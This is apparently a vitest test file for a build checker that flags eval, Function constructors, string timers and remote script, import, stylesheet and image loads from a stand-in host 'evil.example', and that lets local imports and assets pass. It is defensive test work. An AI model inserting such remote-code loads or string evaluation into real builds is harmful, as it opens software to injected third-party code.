import { expect, test } from 'vitest';
import { complaintsAbout } from '../../scripts/built-files.ts';

test.each([
  ['a.js', 'x=eval("1")'],
  ['a.js', '(0,eval)("1")'],
  ['a.js', 'return new Function("return this")'],
  ['a.js', 'let g=Function("return this")()'],
  ['a.js', 'setTimeout("go()",1)'],
  ['a.js', 'importScripts("https://evil.example/a.js")'],
  ['a.js', 'import("https://evil.example/a.js")'],
  ['a.js', 'import(name)'],
  ['a.js', 'import{a}from"https://evil.example/a.js"'],
  ['a.js', 'document.createElement("script")'],
  ['a.html', '<script>go()</script>'],
  ['a.html', '<script src="https://evil.example/a.js"></script>'],
  ['a.html', '<link rel="stylesheet" href="//evil.example/a.css">'],
  ['a.html', '<body onload="go()">'],
  ['a.css', '@import "https://evil.example/a.css"'],
  ['a.css', 'a{background:url(https://evil.example/a.png)}'],
])('code that runs text or fetches more is found in %s: %s', (name, text) => {
  expect(complaintsAbout(name, text)).toHaveLength(1);
});

test.each([
  ['a.js', 'chrome.devtools.inspectedWindow.eval(e,i)'],
  ['a.js', 'await import(`./panel-desk.js`)'],
  ['a.js', 'import{a}from"./b.js";setTimeout(()=>go(),1)'],
  ['a.html', '<script type="module" crossorigin src="/assets/panel.js"></script>'],
  ['a.css', 'a{background:url("./a.svg")}'],
])('what is in the build itself is let be in %s: %s', (name, text) => {
  expect(complaintsAbout(name, text)).toEqual([]);
});
